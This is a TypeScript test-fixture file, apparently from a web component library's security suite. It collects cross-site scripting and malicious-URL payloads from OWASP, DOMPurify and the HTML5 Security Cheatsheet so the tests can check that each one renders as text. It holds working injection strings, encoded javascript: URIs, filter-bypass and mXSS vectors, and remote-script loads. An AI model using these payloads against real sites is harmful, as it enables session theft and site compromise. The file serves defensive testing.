/**
 * The attack corpus of the security tests, drawn from public sources. Each vector names where it
 * comes from:
 * - OWASP: the OWASP XSS Filter Evasion Cheat Sheet (OWASP/CheatSheetSeries,
 *   cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.md), by section title;
 * - DOMPurify: DOMPurify's test vectors (cure53/DOMPurify, test/fixtures/expect.mjs), by title;
 * - H5SC: the HTML5 Security Cheatsheet (cure53/H5SC, items.js, html5sec.org), by item id.
 * "adapted" marks a vector whose payload was changed to set the sentinel global `__xss` (which
 * the test pages watch) instead of opening a dialog; the markup around it is the source's.
 *
 * The payloads are data: the elements must show each one as text, never as markup.
 */

export interface Vector {
  readonly payload: string;
  readonly source: string;
}

const OWASP = 'OWASP XSS Filter Evasion Cheat Sheet';
const DOMPURIFY = 'DOMPurify test/fixtures/expect.mjs';
const H5SC = 'HTML5 Security Cheatsheet (cure53/H5SC items.js)';

/** Markup and script payloads, for every text field. */
export const XSS_VECTORS: readonly Vector[] = [
  // OWASP XSS Filter Evasion Cheat Sheet
  {
    source: `${OWASP}: Basic XSS Test Without Filter Evasion`,
    payload: '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  },
  {
    source: `${OWASP}: XSS Locator (Polyglot)`,
    payload:
      "javascript:/*--></title></style></textarea></script></xmp>\n<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  },
  {source: `${OWASP}: Malformed A Tags`, payload: '<a onmouseover="alert(document.cookie)">xxs link</a>'},
  {source: `${OWASP}: Malformed A Tags (no quotes)`, payload: '<a onmouseover=alert(document.cookie)>xxs link</a>'},
  {source: `${OWASP}: Malformed IMG Tags`, payload: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'},
  {source: `${OWASP}: fromCharCode`, payload: '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>'},
  {
    source: `${OWASP}: Default SRC Tag to Get Past Filters that Check SRC Domain`,
    payload: '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  },
  {source: `${OWASP}: Default SRC Tag by Leaving it out Entirely`, payload: '<IMG onmouseover="alert(\'xxs\')">'},
  {source: `${OWASP}: On Error Alert`, payload: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'},
  {
    source: `${OWASP}: IMG onerror and JavaScript Alert Encode`,
    payload:
      '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  },
  {
    source: `${OWASP}: Decimal HTML Character References`,
    payload:
      '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  },
  {
    source: `${OWASP}: Hexadecimal HTML Character References Without Trailing Semicolons`,
    payload:
      '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  },
  {source: `${OWASP}: Embedded Tab`, payload: '<IMG SRC="jav\tascript:alert(\'XSS\');">'},
  {source: `${OWASP}: Embedded Encoded Tab`, payload: '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">'},
  {source: `${OWASP}: Break Up JavaScript Directive with Null`, payload: '<IMG SRC=java\u0000script:alert("XSS")>'},
  {
    source: `${OWASP}: Spaces and Meta Chars Before the JavaScript in Images for XSS`,
    payload: '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  },
  {source: `${OWASP}: Non-alpha-non-digit XSS`, payload: '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'},
  {source: `${OWASP}: Non-alpha-non-digit XSS (BODY)`, payload: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'},
  {source: `${OWASP}: Extraneous Open Brackets`, payload: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'},
  {source: `${OWASP}: No Closing Script Tags`, payload: '<SCRIPT SRC=http://xss.rocks/xss.js?< B >'},
  {source: `${OWASP}: Double Open Angle Brackets`, payload: '<iframe src=http://xss.rocks/scriptlet.html <'},
  {source: `${OWASP}: Escaping JavaScript Escapes`, payload: "\\\";alert('XSS');//"},
  {
    source: `${OWASP}: Escaping JavaScript Escapes (end the script block)`,
    payload: "</script><script>alert('XSS');</script>",
  },
  {source: `${OWASP}: End Title Tag`, payload: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'},
  {source: `${OWASP}: INPUT Image`, payload: '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">'},
  {source: `${OWASP}: BODY Image`, payload: '<BODY BACKGROUND="javascript:alert(\'XSS\')">'},
  {
    source: `${OWASP}: List-style-image`,
    payload: '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  },
  {source: `${OWASP}: VBscript in an Image`, payload: '<IMG SRC=\'vbscript:msgbox("XSS")\'>'},
  {source: `${OWASP}: SVG Object Tag`, payload: "<svg/onload=alert('XSS')>"},
  {source: `${OWASP}: ECMAScript 6`, payload: 'Set.constructor`alert\\x28document.domain\\x29'},
  {source: `${OWASP}: BODY Tag`, payload: "<BODY ONLOAD=alert('XSS')>"},
  {
    source: `${OWASP}: STYLE Tags that Breaks Up JavaScript for XSS`,
    payload: '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
  },
  {source: `${OWASP}: META`, payload: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'},
  {
    source: `${OWASP}: META using Data`,
    payload:
      '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  },
  {source: `${OWASP}: IFRAME`, payload: '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>'},
  {source: `${OWASP}: IFRAME Event Based`, payload: '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'},
  {source: `${OWASP}: FRAME`, payload: '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>'},
  {source: `${OWASP}: TABLE`, payload: '<TABLE BACKGROUND="javascript:alert(\'XSS\')">'},
  {source: `${OWASP}: DIV Background-image`, payload: '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">'},
  {
    source: `${OWASP}: Downlevel-Hidden Block`,
    payload: "<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->",
  },
  {source: `${OWASP}: BASE Tag`, payload: '<BASE HREF="javascript:alert(\'XSS\');//">'},
  {
    source: `${OWASP}: OBJECT Tag`,
    payload: '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  },
  {
    source: `${OWASP}: EMBED SVG Which Contains XSS Vector`,
    payload:
      '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  },
  {
    source: `${OWASP}: Cookie Manipulation`,
    payload: '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">',
  },
  {
    source: `${OWASP}: UTF-7 Encoding`,
    payload:
      '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(\'XSS\');+ADw-/SCRIPT+AD4-',
  },
  {
    source: `${OWASP}: XSS Using HTML Quote Encapsulation`,
    payload: '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  },
  {
    source: `${OWASP}: JavaScript Link Location`,
    payload: '<A HREF="javascript:document.location=\'http://www.google.com/\'">XSS</A>',
  },
  {
    source: `${OWASP}: WAF ByPass Strings for XSS (img onerror)`,
    payload: '<Img src = x onerror = "javascript: window.onerror = alert; throw XSS">',
  },
  {
    source: `${OWASP}: WAF ByPass Strings for XSS (video source)`,
    payload: '<Video> <source onerror = "javascript: alert (XSS)">',
  },
  {
    source: `${OWASP}: WAF ByPass Strings for XSS (attribute break-out)`,
    payload: '"><img src="x:x" onerror="alert(XSS)">',
  },
  {
    source: `${OWASP}: WAF ByPass Strings for XSS (iframe data: URL)`,
    payload: '<iframe/src="data:text/html,<svg onload=alert(1)>">',
  },
  {
    source: `${OWASP}: WAF ByPass Strings for XSS (svg script xlink:href)`,
    payload: "<svg><script xlink:href=data&colon;,window.open('https://www.google.com/')></script",
  },
  {
    source: `${OWASP}: WAF ByPass Strings for XSS (formaction)`,
    payload: '<form><button formaction=javascript&colon;alert(1)>CLICKME',
  },
  {
    source: `${OWASP}: WAF ByPass Strings for XSS (percent-encoded data: iframe)`,
    payload:
      '<iframe src="data:text/html,%3C%73%63%72%69%70%74%3E%61%6C%65%72%74%28%31%29%3C%2F%73%63%72%69%70%74%3E"></iframe>',
  },
  {
    source: `${OWASP}: WAF ByPass Strings for XSS (eval(src))`,
    payload: '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  },
  {
    source: `${OWASP}: WAF ByPass Strings for XSS (entity-split href)`,
    payload:
      '<a aa aaa aaaa aaaaa aaaaaa aaaaaaa aaaaaaaa aaaaaaaaa aaaaaaaaaa href=j&#97v&#97script:&#97lert(1)>ClickMe',
  },
  {source: `${OWASP}: Filter Bypass Alert Obfuscation`, payload: '${alert``}'},

  // DOMPurify's test vectors
  {
    source: `${DOMPURIFY}: DOM Clobbering against document.createElement() (see #47)`,
    payload: '<img src=x name=createElement><img src=y id=createElement>',
  },
  {
    source: `${DOMPURIFY}: JavaScript URIs using Unicode LS/PS I`,
    payload: "123<a href='\u2028javascript:alert(1)'>I am a dolphin!</a>",
  },
  {
    source: `${DOMPURIFY}: Low-range-ASCII obfuscated JavaScript URI`,
    payload: '<a href="\u0001java\u0003script:alert(1)">@shafigullin<a>',
  },
  {
    source: `${DOMPURIFY}: mXSS Variation I`,
    payload: '<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>',
  },
  {source: `${DOMPURIFY}: mXSS Variation II`, payload: "<img src=x id/=' onerror=alert(1)//'>"},
  {
    source: `${DOMPURIFY}: Textarea and comments enabling img element`,
    payload: '<textarea>@shafigullin</textarea><!--</textarea><img src=x onerror=alert(1)>-->',
  },
  {
    source: `${DOMPURIFY}: Img element inside noscript terminated inside comment`,
    payload: '<b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript>',
  },
  {
    source: `${DOMPURIFY}: Img element inside shadow DOM template`,
    payload: '<body><template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>',
  },
  {
    source: `${DOMPURIFY}: Img inside style inside broken option element`,
    payload: '\u0001<option><style></option></select><b><img src=x onerror=alert(1)></style></option>',
  },
  {
    source: `${DOMPURIFY}: Image after style to trick jQuery tag-completion`,
    payload: '<b><style><style/><img src=x onerror=alert(1)>',
  },
  {
    source: `${DOMPURIFY}: onclick, onsubmit, onfocus; DOM clobbering: parentNode`,
    payload: '<div onclick=alert(0)><form onsubmit=alert(1)><input onfocus=alert(2) name=parentNode>123</form></div>',
  },
  {source: `${DOMPURIFY}: Link with data URI href`, payload: '<a href=data:,evilnastystuff>clickme</a>'},

  // HTML5 Security Cheatsheet
  {
    source: `${H5SC} #1: XSS via formaction`,
    payload: '<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>',
  },
  {source: `${H5SC} #7: Self-executing focus event via autofocus`, payload: '<input onfocus=write(1) autofocus>'},
  {
    source: `${H5SC} #8: Self-executing blur event via autofocus competition`,
    payload: '<input onblur=write(1) autofocus><input autofocus>',
  },
  {
    source: `${H5SC} #10: JavaScript execution via video poster`,
    payload: '<video poster=javascript:alert(1)//></video>',
  },
  {
    source: `${H5SC} #12: Self-executing onscroll event via autofocus`,
    payload: '<body onscroll=alert(1)><br><br><br><br><br><br>...<br><br><br><br><input autofocus>',
  },
  {source: `${H5SC} #37: Comment parsing confusion`, payload: '<!--<img src="--><img src=x onerror=alert(1)//">'},
  {
    source: `${H5SC} #40: Style element parsing confusion`,
    payload: '<style><img src="</style><img src=x onerror=alert(1)//">',
  },
  {
    source: `${H5SC} #48: Script element in SVG`,
    payload: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  },
  {
    source: `${H5SC} #51: Data URI in object`,
    payload: '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  },
  {
    source: `${H5SC} #52: Data URI in embed`,
    payload: '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></embed>',
  },
  {source: `${H5SC} #56: onerror of a source element`, payload: '<video><source onerror="alert(1)">'},
  {
    source: `${H5SC} #66: SVG onload`,
    payload: '<svg onload="javascript:alert(1)" xmlns="http://www.w3.org/2000/svg"></svg>',
  },
  {
    source: `${H5SC} #73: formaction inside a form`,
    payload: '<form><button formaction="javascript:alert(1)">X</button>',
  },
  {source: `${H5SC} #87: oninput via autofocus`, payload: '<body oninput=alert(1)><input autofocus>'},
  {
    source: `${H5SC} #88: JavaScript link in SVG`,
    payload:
      '<svg xmlns="http://www.w3.org/2000/svg">\n<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)"><rect width="1000" height="1000" fill="white"/></a>\n</svg>',
  },

  // Sentinel forms: the sources' markup, setting the watched global instead of opening a dialog.
  {source: `${OWASP}: On Error Alert (adapted)`, payload: '<img src=x onerror="window.__xss=\'img onerror\'">'},
  {source: `${OWASP}: SVG Object Tag (adapted)`, payload: '<svg onload="window.__xss=\'svg onload\'">'},
  {
    source: `${OWASP}: Basic XSS Test Without Filter Evasion (adapted)`,
    payload: '<script>window.__xss="script"</script>',
  },
  {
    source: `${OWASP}: IFRAME (adapted to srcdoc, as in ${H5SC})`,
    payload: '<iframe srcdoc="<script>parent.__xss=&quot;srcdoc&quot;</script>"></iframe>',
  },
  {source: `${H5SC} #7 (adapted)`, payload: '<input onfocus="window.__xss=\'autofocus\'" autofocus>'},
  // Lit's own part markers, which its template parser looks for in template strings.
  {
    source: 'lit-html template markers (adapted: a text value shaped like a marker)',
    payload: '<!--?lit$1234567890$--><?lit$1234567890$>lit$1234567890$',
  },
];

/** Link payloads for every URL field: each must produce no link. */
export const URL_VECTORS: readonly Vector[] = [
  {source: `${OWASP}: IMG SRC (javascript: directive)`, payload: 'javascript:alert(1)'},
  {source: `${OWASP}: Case Insensitive XSS Attack Vector`, payload: "JaVaScRiPt:alert('XSS')"},
  {source: `${OWASP}: Embedded Tab`, payload: "jav\tascript:alert('XSS');"},
  {source: `${OWASP}: Embedded Encoded Tab`, payload: "jav&#x09;ascript:alert('XSS');"},
  {source: `${OWASP}: Embedded Newline to Break Up XSS`, payload: "jav&#x0A;ascript:alert('XSS');"},
  {source: `${OWASP}: Break Up XSS Attack with Embedded Carriage Return`, payload: "jav&#x0D;ascript:alert('XSS');"},
  {source: `${OWASP}: Embedded newline (raw)`, payload: 'jav\nascript:alert(1)'},
  {source: `${OWASP}: Break Up JavaScript Directive with Null`, payload: 'java\u0000script:alert("XSS")'},
  {source: `${OWASP}: Spaces and Meta Chars Before the JavaScript`, payload: " &#14;  javascript:alert('XSS');"},
  {source: `${OWASP}: Spaces and Meta Chars Before the JavaScript (raw)`, payload: " \u000e  javascript:alert('XSS');"},
  {
    source: `${OWASP}: Decimal HTML Character References`,
    payload:
      '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;',
  },
  {
    source: `${OWASP}: Decimal HTML Character References Without Trailing Semicolons`,
    payload:
      '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041',
  },
  {
    source: `${OWASP}: Hexadecimal HTML Character References Without Trailing Semicolons`,
    payload:
      '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29',
  },
  {
    source: `${OWASP}: WAF ByPass Strings for XSS (&colon;)`,
    payload: 'javascript&colon;alert&lpar;document&period;location&rpar;',
  },
  {source: `${OWASP}: WAF ByPass Strings for XSS (escaped letter)`, payload: 'javascript:\\u0061lert(1)'},
  {source: `${OWASP}: VBscript in an Image`, payload: 'vbscript:msgbox("XSS")'},
  {source: `${OWASP}: VBscript in an Image (upper case)`, payload: 'VBSCRIPT:msgbox("XSS")'},
  {source: `${OWASP}: Livescript`, payload: 'livescript:[code]'},
  {source: `${OWASP}: META using Data`, payload: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K'},
  {source: `${OWASP}: WAF ByPass Strings for XSS (data: iframe)`, payload: 'data:text/html,<svg onload=alert(1)>'},
  {
    source: `${OWASP}: EMBED SVG Which Contains XSS Vector`,
    payload: 'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=',
  },
  {source: `${OWASP}: Protocol Resolution Bypass`, payload: '//www.google.com/'},
  {source: `${OWASP}: Protocol Resolution Bypass (backslashes)`, payload: '\\\\www.google.com\\'},
  {source: `${OWASP}: Protocol Resolution Bypass (mixed slashes)`, payload: '/\\www.google.com/'},
  {source: `${OWASP}: Protocol Resolution Bypass (mixed slashes, reversed)`, payload: '\\/www.google.com/'},
  {source: `${OWASP}: Protocol Resolution Bypass (scheme without slashes)`, payload: 'https:www.google.com'},
  {source: `${OWASP}: Protocol Resolution Bypass (scheme with one slash)`, payload: 'https:/www.google.com'},
  {source: `${OWASP}: Mixed Encoding (whitespace inside the scheme)`, payload: 'h \ntt  p://6\t6.000146.0x7.147/'},
  {source: `${OWASP}: JavaScript Link Location`, payload: "javascript:document.location='http://www.google.com/'"},
  {source: `${DOMPURIFY}: JavaScript URIs using Unicode LS/PS I`, payload: '\u2028javascript:alert(1)'},
  {source: `${DOMPURIFY}: JavaScript URIs using Unicode LS/PS II`, payload: '\u2029javascript:alert(1)'},
  {
    source: `${DOMPURIFY}: JavaScript URIs using Unicode Whitespace (no-break space)`,
    payload: '\u00a0javascript:alert(1)',
  },
  {
    source: `${DOMPURIFY}: JavaScript URIs using Unicode Whitespace (ideographic space)`,
    payload: '\u3000javascript:alert(1)',
  },
  {
    source: `${DOMPURIFY}: JavaScript URIs using Unicode Whitespace (zero width space)`,
    payload: '\u200bjavascript:alert(1)',
  },
  {source: `${DOMPURIFY}: JavaScript URIs using Unicode Whitespace (entity form)`, payload: '&#xA0javascript:alert(1)'},
  {source: `${DOMPURIFY}: Low-range-ASCII obfuscated JavaScript URI`, payload: '\u0001java\u0003script:alert(1)'},
  {source: `${DOMPURIFY}: Link with data URI href`, payload: 'data:,evilnastystuff'},
  {source: `${DOMPURIFY}: Image with JavaScript URI src`, payload: 'javascript:while(1){}'},
  {
    source: `${DOMPURIFY}: Image with data URI src with whitespace`,
    payload: '\r\ndata:image/jpeg,ab798ewqxbaudbuoibeqbla',
  },
  {source: `${H5SC} #42: javascript: base URL`, payload: 'javascript://%0Aalert(1)'},
  {source: `${H5SC} #10: JavaScript execution via video poster`, payload: 'javascript:alert(1)//'},
  {source: 'byte order mark before the scheme (Unicode format character)', payload: '\ufeffjavascript:alert(1)'},
  {source: 'leading space before the scheme', payload: ' javascript:alert(1)'},
];
